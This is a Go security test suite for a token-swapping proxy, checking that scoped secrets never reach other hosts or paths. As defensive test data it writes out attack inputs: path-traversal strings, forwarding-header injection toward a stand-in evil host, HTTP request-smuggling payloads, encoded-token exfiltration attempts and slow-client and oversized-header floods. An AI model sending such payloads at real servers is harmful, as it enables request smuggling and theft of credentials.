package handler

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/starpod/caddy-starpod/internal/testbench"
	"github.com/starpod/caddy-starpod/tokens"
)

// narrow seals the canary for the API with globs for the path.
func (b *bench) narrow(paths ...string) string {
	b.t.Helper()
	keys, err := b.proxy.Keys()
	if err != nil {
		b.t.Fatal(err)
	}
	token, err := keys.Seal(tokens.Secret{Value: canary, Hosts: []string{"api.starpod.test"}, Paths: paths})
	if err != nil {
		b.t.Fatal(err)
	}
	return token
}

// TestStrippedPath: a token that is stripped from the path must not make it the
// name of another host, nor lead a token out of the paths that it is for.
func TestStrippedPath(t *testing.T) {
	b := newBench(t, nil)
	other := b.token("other.test")
	slash := other // a token may end with a slash, which sets the dots behind it apart
	for !strings.HasSuffix(slash, "/") {
		slash = b.token("other.test")
	}
	narrow := b.narrow("/v1/**")
	for _, test := range []struct {
		name, path, sent string // sent is empty if the request is refused
		value            bool   // whether the value goes along
	}{
		{"as it should be", "/v1/x", "/v1/x", true},
		{"elsewhere", "/v2/x", "/v2/x", false},
		{"climbing", "/v1/../v2", "/v1/../v2", false},
		{"climbing when stripped", "/v1/." + other + "./v2", "", false},
		{"climbing when stripped, escaped", "/v1/%2e" + other + "%2e/v2", "", false},
		{"climbing when stripped, a dot", "/v1/" + other + "./v2", "", false},
		{"climbing when stripped, a parameter", "/v1/.." + other + ";x/v2", "", false},
		{"climbing when stripped, behind a slash", "/v1/." + slash + "./v2", "", false},
		{"climbing when stripped, a dot behind a slash", "/v1/" + slash + "./v2", "", false},
		{"climbing before it is stripped", "/v1/../" + other + "/v2", "/v1/..//v2", false},
		{"two slashes when stripped", "/" + other + "/evil.starpod.test/v1/x", "//evil.starpod.test/v1/x", false},
		{"two slashes and a port when stripped", "/" + other + "/evil.starpod.test:80/", "//evil.starpod.test:80/", false},
		{"outside when stripped", "/v1" + other + "x/y", "/v1x/y", false},
		{"inside when stripped", "/v1/" + other + "x", "/v1/x", true},
	} {
		for _, h2 := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s h2=%v", test.name, h2), func(t *testing.T) {
				b.t = t
				b.up.Forget()
				r := b.request("GET", b.up.URL("api.starpod.test"), "", "X-Key", narrow)
				r.URL.Opaque = test.path
				response, body := b.do(b.client(h2), r)
				if test.sent == "" {
					if response.StatusCode != 400 {
						t.Errorf("got status %d %s, want 400", response.StatusCode, body)
					}
					b.nothingReached()
					return
				}
				got := b.up.Last(t)
				if got.Target != test.sent || got.Host != b.apiAuthority() {
					t.Errorf("upstream got %q at %q, want %q", got.Target, got.Host, test.sent)
				}
				if value := got.Header.Get("X-Key") == canary; value != test.value {
					t.Errorf("the value went along: got %v, want %v", value, test.value)
				}
			})
		}
	}
}

// TestStrippedGarbagePath: what looks like a token may hold a path of its own,
// which must not count once it is stripped.
func TestStrippedGarbagePath(t *testing.T) {
	b := newBench(t, func(p *Proxy) { p.Swap.OnUndecodable = tokens.Strip })
	garbage := "starpod:v1:" + strings.Repeat("A", 30) + "/public/" + strings.Repeat("A", 30)
	for path, want := range map[string]bool{"/x/public/y": true, "/admin/" + garbage: false} {
		r := b.request("GET", b.up.URL("api.starpod.test"), "", "X-Key", b.narrow("/*/public/**", "/*/*/public/**"))
		r.URL.Opaque = path
		b.do(b.client(false), r)
		if got := b.up.Last(t); (got.Header.Get("X-Key") == canary) != want || strings.Contains(got.Target, "starpod") {
			t.Errorf("%.30s: upstream got %q with %q, want the value: %v", path, got.Target, got.Header.Get("X-Key"), want)
		}
	}
}

// TestFieldsThatSteer: no field that a child can send brings a value to another
// host, or hides what it sends.
func TestFieldsThatSteer(t *testing.T) {
	b := newBench(t, nil)
	token := b.token("api.starpod.test")
	evil := fmt.Sprintf("evil.starpod.test:%d", b.up.Port())
	for _, test := range []struct{ name, fields string }{
		{"Connection names Host", "Connection: Host\r\n"},
		{"Connection names the length", "Connection: Content-Length\r\n"},
		{"Connection names the coding", "Connection: Transfer-Encoding, close\r\n"},
		{"Connection closes", "Connection: close\r\n"},
		{"forwarded host", "X-Forwarded-Host: {evil}\r\nForwarded: host={evil}\r\nX-Host: {evil}\r\n"},
		{"other destinations", "Destination: https://{evil}/\r\nX-Original-URL: https://{evil}/\r\nAlt-Used: {evil}\r\n"},
		{"HTTP/2 upgrade", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"},
		{"pseudo-fields", "X-A: b\r\n"},
		{"underscored length", "Content_Length: 100\r\nTransfer_Encoding: chunked\r\n"},
		{"proxy fields", "Proxy-Connection: close\r\nProxy-Authenticate: x\r\n"},
	} {
		t.Run(test.name, func(t *testing.T) {
			b.t = t
			b.up.Forget()
			response := b.send("POST / HTTP/1.1\r\nHost: {host}\r\n" + strings.ReplaceAll(test.fields, "{evil}", evil) +
				"X-Key: " + token + "\r\nContent-Length: 4\r\n\r\nbody")
			if response.StatusCode != 200 {
				t.Fatalf("got status %d, want 200", response.StatusCode)
			}
			got := b.up.Last(t)
			if len(b.up.Requests()) != 1 || got.Host != b.apiAuthority() || got.ServerName != "api.starpod.test" || string(got.Body) != "body" || got.Header.Get("X-Key") != canary {
				t.Errorf("got %d requests, the last %+v", len(b.up.Requests()), got)
			}
		})
	}
}

// TestSmuggledRequests: what stands in a body stays a body.
func TestSmuggledRequests(t *testing.T) {
	b := newBench(t, nil)
	inner := "GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"
	for _, test := range []struct{ name, sent string }{
		{"in a body with a length", fmt.Sprintf("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: %d\r\n\r\n%s", len(strings.ReplaceAll(inner, "{host}", b.apiAuthority())), inner)},
		{"behind chunks with a length", "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 500\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n" + inner},
		{"behind old-version chunks", "POST / HTTP/1.0\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" + inner},
		{"in a chunk extension", "POST / HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n1;x=\n" + inner + "\r\n0\r\n\r\n"},
		{"in an upgrade", "GET / HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 0\r\nConnection: close\r\n\r\n" + inner},
	} {
		t.Run(test.name, func(t *testing.T) {
			b.t = t
			b.up.Forget()
			conn := b.tunnel(b.apiAuthority(), "api.starpod.test", "http/1.1")
			_, _ = io.WriteString(conn, strings.ReplaceAll(test.sent, "{host}", b.apiAuthority()))
			_ = conn.CloseWrite()
			_, _ = io.Copy(io.Discard, conn)
			for _, got := range b.up.Requests() {
				if got.Target == "/smuggled" {
					t.Errorf("upstream took a body for a request: %q", got.Raw)
				}
			}
		})
	}
}

// TestTokenForAnotherHost never becomes a value, however it is written.
func TestTokenForAnotherHost(t *testing.T) {
	b := newBench(t, nil)
	token := b.token("api.starpod.test")
	percent := strings.NewReplacer(":", "%3A", "+", "%2b", "/", "%2F", "=", "%3d").Replace(token)
	json := strings.NewReplacer("/", `\/`, "+", `\u002B`, "=", `\u003d`).Replace(token)
	evil := b.up.URL("evil.starpod.test")
	for name, r := range map[string]*http.Request{
		"plain":                 b.request("POST", evil+"/"+token, token, "X-Key", token),
		"percent":               b.request("POST", evil+"/"+percent+"?"+percent, percent, "X-Key", percent, "Content-Type", "application/x-www-form-urlencoded"),
		"json":                  b.request("POST", evil+"/", json, "X-Key", json, "Content-Type", "application/json"),
		"basic":                 b.request("GET", evil+"/", "", "Authorization", basic(token, token)),
		"two in a row":          b.request("POST", evil+"/", token+token, "X-Key", token+token),
		"in a token":            b.request("POST", evil+"/", token[:40]+token+token[40:], "X-Key", token[:40]+token+token[40:]),
		"with the other's Host": b.request("POST", evil+"/", token, "X-Key", token, "X-Forwarded-Host", "api.starpod.test"),
		"double basic":          b.request("GET", evil+"/", "", "Authorization", basic("u", base64.StdEncoding.EncodeToString([]byte(token)))),
	} {
		b.do(b.client(false), r)
		if found := testbench.FindSecret(b.up.Dump(), canary); len(found) > 0 {
			t.Fatalf("%s: the value reached another host as %v", name, found)
		}
	}
}

// TestReflectedRedirect: a redirect that echoes the value is not followed.
func TestReflectedRedirect(t *testing.T) {
	b := newBench(t, nil)
	b.up.Handle("/", func(w http.ResponseWriter, r *http.Request, got *testbench.Request) {
		w.Header().Set("Location", b.up.URL("evil.starpod.test")+"/?"+got.Header.Get("X-Key"))
		w.WriteHeader(http.StatusTemporaryRedirect)
	})
	response, _ := b.do(b.client(false), b.request("POST", b.up.URL("api.starpod.test")+"/", "x", "X-Key", b.token("api.starpod.test")))
	if response.StatusCode != 307 || len(b.up.Requests()) != 1 {
		t.Errorf("got status %d and %d requests, want 307 and one", response.StatusCode, len(b.up.Requests()))
	}
}

// TestEndlessTokens: what is kept of a body does not grow with its tokens.
func TestEndlessTokens(t *testing.T) {
	b := newBench(t, nil)
	const rounds = 300
	good, other := b.token("api.starpod.test"), b.token("other.test")
	b.up.HandleStream("/", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { _, _ = io.Copy(io.Discard, r.Body) }))
	reader, writer := io.Pipe()
	go func() {
		for i := range rounds {
			var piece bytes.Buffer
			for j := range 20 {
				// One for here, one for elsewhere, one that no key opens.
				fmt.Fprintf(&piece, "%s %s starpod:v1:%s ", good, other, base64.StdEncoding.EncodeToString(fmt.Appendf(nil, "%060d", i*1000+j)))
			}
			_, _ = writer.Write(piece.Bytes())
		}
		_ = writer.Close()
	}()
	r := b.request("POST", b.up.URL("api.starpod.test")+"/", "")
	r.Body, r.ContentLength = reader, -1
	b.do(b.client(false), r)
	testbench.Await(t, longest, func() error {
		for _, entry := range b.logs.All() {
			if entry.LoggerName == "audit" {
				if noted := len(entry.ContextMap()["tokens"].([]any)); noted > maxNoted+10 {
					t.Errorf("the audit line tells of %d tokens", noted)
				}
				return nil
			}
		}
		return fmt.Errorf("there is no audit line")
	})
	if got := b.proxy.Stats.Replaced.Load(); got != 20*rounds {
		t.Errorf("replaced: got %d, want %d", got, 20*rounds)
	}
}

// TestSlowAndSilentClients hold no more than their connection, and go away with it.
func TestSlowAndSilentClients(t *testing.T) {
	b := newBench(t, nil)
	warm := b.tunnel(b.apiAuthority(), "api.starpod.test", "http/1.1")
	b.sendOver(warm, "GET / HTTP/1.1\r\nHost: {host}\r\n\r\n")
	testbench.NoGoroutineLeak(t)
	var conns []net.Conn
	for i := range 30 {
		conn, _ := b.connect(b.apiAuthority())
		switch i % 3 {
		case 1:
			_, _ = conn.Write([]byte{recordTypeHandshake, 3})
		case 2:
			secure := b.secure(conn)
			fmt.Fprintf(secure, "POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab", b.apiAuthority())
		}
		conns = append(conns, conn)
	}
	for _, conn := range conns {
		_ = conn.Close()
	}
}

// TestLargeHeader is refused where it is larger than anything honest.
func TestLargeHeader(t *testing.T) {
	b := newBench(t, nil)
	conn := b.tunnel(b.apiAuthority(), "api.starpod.test", "http/1.1")
	go func() {
		fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\n", b.apiAuthority())
		for range 2000 {
			if _, err := fmt.Fprintf(conn, "X-A: %s\r\n", strings.Repeat("x", 1000)); err != nil {
				return
			}
		}
	}()
	if response, err := http.ReadResponse(bufio.NewReader(conn), nil); err != nil || response.StatusCode != 431 {
		t.Errorf("got %v (%v), want status 431", response, err)
	}
	b.nothingReached()
}

// TestManyAtOnce: hosts, protocols and bodies side by side, each with the right
// value and none with another's.
func TestManyAtOnce(t *testing.T) {
	b := newBench(t, func(p *Proxy) { p.Swap.BodyBuffer = smallBuffer })
	var wg sync.WaitGroup
	for worker := range 8 {
		client := b.client(worker%2 == 0)
		wg.Go(func() {
			value := fmt.Sprintf("value-of-worker-%d", worker)
			token := testbench.Seal(t, b.key, value, "api.starpod.test")
			for i := range 15 {
				body := strings.Repeat("x", i*1000) + token
				r := b.request("POST", fmt.Sprintf("%s/%d", b.up.URL("api.starpod.test"), worker), body, "X-Key", token)
				if i%3 == 0 {
					r.ContentLength = -1
				}
				response, err := client.Do(r)
				if err != nil {
					t.Error(err)
					return
				}
				response.Body.Close()
			}
		})
	}
	wg.Wait()
	if got := len(b.up.Requests()); got != 8*15 {
		t.Errorf("upstream got %d requests, want %d", got, 8*15)
	}
	for _, got := range b.up.Requests() {
		want := "value-of-worker-" + got.Target[1:]
		if got.Header.Get("X-Key") != want || !strings.HasSuffix(string(got.Body), "x"+want) && string(got.Body) != want {
			t.Errorf("%s: got header %q and a body ending in %.40q", got.Target, got.Header.Get("X-Key"), got.Body[max(0, len(got.Body)-40):])
		}
	}
}
